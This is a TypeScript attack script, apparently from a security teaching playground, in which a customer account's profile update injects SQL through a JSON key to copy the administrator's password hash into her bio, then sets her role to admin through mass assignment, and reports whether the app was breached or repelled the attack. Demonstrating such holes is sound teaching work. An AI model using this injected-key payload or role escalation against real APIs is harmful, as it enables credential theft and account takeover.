import type { Attack, AttackProgress } from '../../../runtime/attack/attack.ts';
import type { HttpResponse } from '../../../runtime/playground.ts';

/** A bcrypt hash. */
const hash = /^\$2b\$\d\d\$.{53}$/;

/** A key that is SQL: it ends where a column name belongs, so that what follows still fits. */
const copyTheHash = 'bio = (select password_hash from users where id = 1), display_name';

function field(response: HttpResponse, name: 'bio' | 'role'): string {
  return new RegExp(`"${name}":"([^"]*)"`).exec(response.body)?.[1] ?? '';
}

/** Ada, a customer, changes her own profile: to the administrator's password hash, then to an administrator's. */
const attack: Attack = async function* (send) {
  let requests = 0;
  let stolen = '';
  const progress = (step: string): AttackProgress => ({ requests, stolen, length: 60, step });
  const change = async (body: object) => {
    requests += 1;
    return send({
      method: 'PATCH',
      path: '/api/users/2',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
  };

  yield progress('Sending a key that is SQL');
  const bio = field(await change({ [copyTheHash]: 'Ada' }), 'bio');
  if (hash.test(bio)) {
    stolen = bio;
    yield progress("The administrator's hash is in the customer's profile");
  }

  const role = field(await change({ displayName: 'Ada', role: 'admin' }), 'role');
  if (role === 'admin') {
    const step = stolen ? 'Read a password hash, and became an administrator' : 'Became an administrator';
    return { ...progress(step), outcome: 'succeeded' };
  }
  if (stolen) return { ...progress('Read a password hash'), outcome: 'succeeded' };
  return { ...progress('No key reaches a column that the program did not name'), outcome: 'repelled' };
};

export default attack;
